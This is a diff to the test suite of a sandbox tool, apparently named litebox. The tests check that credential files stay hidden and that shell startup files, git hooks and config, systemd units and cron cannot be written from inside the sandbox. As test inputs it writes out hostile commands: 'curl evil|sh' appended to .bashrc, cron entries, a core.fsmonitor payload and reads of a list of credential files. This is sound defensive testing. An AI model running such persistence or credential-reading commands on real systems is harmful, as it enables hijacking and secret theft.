@@ -5,8 +5,11 @@ credentials hidden and persistence points unwritable. Every refusal is
 checked on the host (bytes unchanged, marker absent) beside a positive
 control in the same run."""
 import os
+import glob
+import json
 import shutil
 import stat
+import subprocess
 import sys
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
@@ -136,21 +139,117 @@ def real_pyenv_python_runs():
     eq(p.stdout, "[1]\n", "output")
 
 
+SYSTEM_PYTHON = os.path.realpath("/usr/bin/python3")
+
+
+def python_copy(prefix):
+    """A real Python installed at prefix as pyenv or a runner's tool cache
+    installs one: the system's interpreter copied to prefix/bin (python3 a
+    relative link to it) and the standard library it loads at start copied
+    to prefix/lib, so the interpreter finds its home there (getpath's
+    landmark, os.py) and every file it reads or runs is under prefix.
+    Returns prefix/bin/python3."""
+    name = os.path.basename(SYSTEM_PYTHON)  # python3.X
+    stdlib = os.path.join("/usr/lib", name)
+    if not name.startswith("python3.") or not os.path.exists(os.path.join(stdlib, "os.py")):
+        skip("no system python3 with its standard library in /usr/lib")
+    lib = os.path.join(prefix, "lib", name)
+    os.makedirs(lib)
+    for f in glob.glob(os.path.join(stdlib, "*.py")):
+        shutil.copy2(f, lib)
+    skip_caches = shutil.ignore_patterns("__pycache__", "test", "tests")
+    for pkg in ("encodings", "collections", "importlib", "json", "re", "lib-dynload", "email", "urllib"):
+        if os.path.isdir(os.path.join(stdlib, pkg)):
+            shutil.copytree(os.path.join(stdlib, pkg), os.path.join(lib, pkg), ignore=skip_caches)
+    os.makedirs(os.path.join(prefix, "bin"))
+    shutil.copy2(SYSTEM_PYTHON, os.path.join(prefix, "bin", name))
+    os.symlink(name, os.path.join(prefix, "bin", "python3"))
+    return os.path.join(prefix, "bin", "python3")
+
+
+WHERE = "import json, os, ssl, sys; print(json.dumps([sys.prefix, os.__file__, json.__file__]))"
+
+
+def ran_from(p, prefix):
+    eq(p.returncode, 0, "the copied python runs: " + p.stderr[-2000:])
+    where = json.loads(p.stdout.strip().splitlines()[-1])
+    eq(where[0], prefix, "sys.prefix is the install's own")
+    assert all(w.startswith(prefix + "/lib/") for w in where[1:]), where
+
+
+@test
+def a_python_in_a_pyenv_layout_runs():
+    home = tmpdir()
+    env = home_env(home)
+    prefix = os.path.join(home, ".pyenv", "versions", "3.99.0")
+    python = python_copy(prefix)
+    shim = write(os.path.join(home, ".pyenv", "shims", "python3"),
+                 f"#!/bin/sh\nexec {prefix}/bin/python3 \"$@\"\n", 0o755)
+    d = tmpdir()
+    p = litebox("run", "--", shim, "-c", WHERE + "; open('out', 'w').write('made')", cwd=d, env=env)
+    ran_from(p, prefix)
+    eq(read(os.path.join(d, "out")), "made", "it works on the working directory")
+    # never writable: it is on PATH, a write would run later, outside
+    lib = os.path.join(prefix, "lib", os.path.basename(SYSTEM_PYTHON))
+    p = litebox("run", "--", python, "-c", "open(__import__('os').__file__, 'a').write('#x')",
+                cwd=d, env=env)
+    assert p.returncode != 0 and "#x" not in read(os.path.join(lib, "os.py")), "the install is read-only"
+    assert f"denied write {lib}/os.py" in p.stderr, p.stderr[-1500:]
+    # Control: the same install elsewhere in $HOME is not granted.
+    # (the program's own file is an implicit grant; its library is not,
+    # so python falls back to the system's)
+    other = os.path.join(home, "not-a-manager")
+    p = litebox("run", "--", python_copy(other), "-c", WHERE, cwd=d, env=env)
+    assert other not in p.stdout, "the rest of $HOME stays refused: " + p.stdout
+    assert f"denied stat {other}/lib/" in p.stderr, p.stderr[-1500:]
+
+
 @test
 def toolchain_under_opt_runs():
     if os.geteuid() != 0:
-        skip("creating /opt/lbtest-toolchain needs root")
-    root = "/opt/lbtest-toolchain"
+        skip("creating a directory in /opt needs root")
+    root = f"/opt/lbtest-toolchain-{os.getpid()}"
     shutil.rmtree(root, ignore_errors=True)
     try:
         tool = fake_toolchain(root, "tool")
         p = litebox("run", "--", tool, cwd=tmpdir())
         eq(p.returncode, 0, "/opt toolchain runs: " + p.stderr)
         eq(p.stdout, "stdlib of tool\n", "reads its own files")
+        prefix = os.path.join(root, "python", "3.99.0", "x64")  # as in /opt/hostedtoolcache
+        python = python_copy(prefix)
+        p = litebox("run", "--", python, "-c", WHERE, cwd=tmpdir())
+        ran_from(p, prefix)
         p = litebox("run", "--", "sh", "-c", f"echo x > {root}/lib/new", cwd=tmpdir())
         assert p.returncode != 0 and not os.path.exists(f"{root}/lib/new"), "/opt is read-only"
+        assert f"denied write {root}/lib/new" in p.stderr, p.stderr
     finally:
         shutil.rmtree(root, ignore_errors=True)
+
+
+CREDENTIALS = (".npmrc", ".pypirc", ".netrc", ".git-credentials", ".docker/config.json",
+               ".cargo/credentials", ".cargo/credentials.toml", ".ssh/id_ed25519",
+               ".config/gh/hosts.yml", ".aws/credentials")
+
+
+@test
+def credentials_stay_hidden_even_when_cwd_is_home():
+    home = tmpdir()
+    marker = "secret-" + os.urandom(6).hex()
+    for name in CREDENTIALS:
+        write(os.path.join(home, name), f"token={marker}\n")
+    write(os.path.join(home, ".gitconfig"), "[user]\n\tname = control\n")
+    write(os.path.join(home, ".cargo", "bin", "tool"), "control-cargo-bin\n")
+    cats = " ".join(f"cat {n};" for n in CREDENTIALS)
+    p = litebox("run", "--", "sh", "-c", f"{cats} cat .gitconfig .cargo/bin/tool; ls -a . .cargo; "
+                "grep -r token . ; true", cwd=home, env=home_env(home))
+    assert "name = control" in p.stdout and "control-cargo-bin" in p.stdout, \
+        "control: configuration without credentials is read: " + p.stderr[-1500:]
+    assert marker not in p.stdout and marker not in p.stderr, "a credential was read"
+    listed = p.stdout.split()
+    for name in (".npmrc", ".pypirc", ".netrc", ".git-credentials", ".docker", ".ssh", ".aws",
+                 "credentials", "credentials.toml"):
+        assert name not in listed, name + " is listed"
+    assert f"hid read {os.path.realpath(home)}/.npmrc" in p.stderr, p.stderr[-1500:]
 
 
 @test
@@ -158,33 +257,76 @@ def startup_files_unwritable_from_home():
     home = tmpdir()
     env = home_env(home)
     rc = write(os.path.join(home, ".bashrc"), "# original\n")
+    write(os.path.join(home, ".profile"), "# original\n")
     os.mkdir(os.path.join(home, "project"))
-    p = litebox("run", "--", "sh", "-c",
-                "echo ok > project/out; echo 'curl evil|sh' >> .bashrc; "
-                "echo evil > .bash_aliases; echo evil > .vimrc; echo evil > .tmux.conf; "
-                "echo evil > .gdbinit; echo evil > .envrc; mkdir -p .config/kitty; "
-                "mkdir -p .ipython/profile_default/startup && echo x > .ipython/profile_default/startup/a.py; "
-                "mkdir -p .config/autostart && echo x > .config/autostart/x.desktop",
-                cwd=home, env=env)
+    # a dotfiles repository in $HOME: $CWD/.git is $HOME/.git
+    subprocess.run(["git", "init", "-q", home], check=True)
+    gitconfig = read(os.path.join(home, ".git", "config"))
+    cron = [f"/var/spool/cron/crontabs/lbtest-{os.getpid()}", f"/etc/cron.d/lbtest-{os.getpid()}"]
+    try:
+        p = litebox("run", "--", "sh", "-c",
+                    "echo ok > project/out; echo 'curl evil|sh' >> .bashrc; echo evil >> .profile; "
+                    "echo evil > .zshrc; echo evil > .zshenv; "
+                    "echo evil > .bash_aliases; echo evil > .vimrc; echo evil > .tmux.conf; "
+                    "echo evil > .gdbinit; echo evil > .envrc; mkdir -p .config/kitty; "
+                    "mkdir -p .ipython/profile_default/startup && echo x > .ipython/profile_default/startup/a.py; "
+                    "mkdir -p .config/autostart && echo x > .config/autostart/x.desktop; "
+                    "mkdir -p .config/systemd/user && echo x > .config/systemd/user/x.service; "
+                    "mkdir -p .ssh; echo evil > .ssh/rc; "
+                    "echo evil > .git/hooks/post-checkout; git config core.fsmonitor evil; "
+                    + "".join(f"echo '* * * * * evil' > {c}; " for c in cron),
+                    cwd=home, env=env)
+    finally:
+        leaked = [c for c in cron if os.path.exists(c)]
+        for c in leaked:
+            os.unlink(c)
+    assert not leaked, "crontab written: " + str(leaked)
     eq(read(os.path.join(home, "project", "out")), "ok\n", "control: $CWD is writable")
     eq(read(rc), "# original\n", "~/.bashrc unchanged on the host")
-    assert not os.path.exists(os.path.join(home, ".config", "autostart", "x.desktop"))
+    eq(read(os.path.join(home, ".profile")), "# original\n", "~/.profile unchanged on the host")
+    eq(read(os.path.join(home, ".git", "config")), gitconfig, "the repository's config unchanged")
     for name in (".bash_aliases", ".vimrc", ".tmux.conf", ".ipython/profile_default/startup/a.py",
-                 ".gdbinit", ".envrc", ".config/kitty"):
+                 ".gdbinit", ".envrc", ".config/kitty", ".zshrc", ".zshenv", ".config/autostart/x.desktop",
+                 ".config/systemd/user/x.service", ".ssh", ".git/hooks/post-checkout"):
         assert not os.path.exists(os.path.join(home, name)), name + " written"
-    assert f"denied write {os.path.realpath(home)}/.bashrc" in p.stderr, p.stderr
+    h = os.path.realpath(home)
+    for name in (".bashrc", ".profile", ".zshrc", ".git/config.lock"):
+        assert f"denied write {h}/{name}" in p.stderr, name + ": " + p.stderr[-3000:]
+
+
+def git(d, *args):
+    return subprocess.run(["git", *args], cwd=d, check=True, capture_output=True, text=True).stdout
+
+
+GIT_ID = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.test",
+          "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.test"}
 
 
 @test
-def git_hooks_unwritable():
+def git_works_in_the_working_repository_but_not_its_config():
     d = tmpdir()
-    os.makedirs(os.path.join(d, ".git", "hooks"))
-    write(os.path.join(d, ".git", "HEAD"), "ref: refs/heads/main\n")
+    git(d, "init", "-q", "-b", "main")
+    write(os.path.join(d, "a"), "a\n")
+    git(d, "add", "a")
+    git(d, "-c", "user.name=t", "-c", "user.email=t@example.test", "commit", "-qm", "a")
+    config = read(os.path.join(d, ".git", "config"))
+    env = dict(os.environ, TMPDIR=tmpdir(), **GIT_ID)
     p = litebox("run", "--", "sh", "-c",
-                "echo ok > made; printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit", cwd=d)
-    eq(read(os.path.join(d, "made")), "ok\n", "control: $CWD is writable")
-    assert not os.path.exists(os.path.join(d, ".git", "hooks", "pre-commit")), "hook written"
-    assert "denied write" in p.stderr and "pre-commit" in p.stderr, p.stderr
+                "echo b > b && git add b && git commit -qm b && git checkout -qb topic && git tag v1 && "
+                "git stash list && git gc -q && echo git-ok; "
+                "git init -q sub && git -C sub config x.y z && echo sub-ok; "
+                "git clone -q . clone && git -C clone config x.y z && echo clone-ok; "
+                "git config core.fsmonitor 'touch pwned'; git config core.hooksPath hooks2; "
+                "mv .git .git-old", cwd=d, env=env)
+    for what in ("git-ok", "sub-ok", "clone-ok"):
+        assert what in p.stdout, what + ": " + p.stdout + p.stderr[-2000:]
+    eq(git(d, "log", "--format=%s", "topic"), "b\na\n", "the commit is on the host")
+    eq(git(d, "tag"), "v1\n", "the tag is on the host")
+    eq(read(os.path.join(d, "sub", ".git", "config")).count("[x]"), 1, "a new repository's config is its own")
+    eq(read(os.path.join(d, ".git", "config")), config, "the working repository's config is unchanged")
+    assert os.path.isdir(os.path.join(d, ".git", "objects")) and not os.path.exists(os.path.join(d, ".git-old"))
+    r = os.path.realpath(d)
+    assert f"denied write {r}/.git/config" in p.stderr and f"denied write {r}/.git " in p.stderr, p.stderr[-2000:]
 
 
 @test
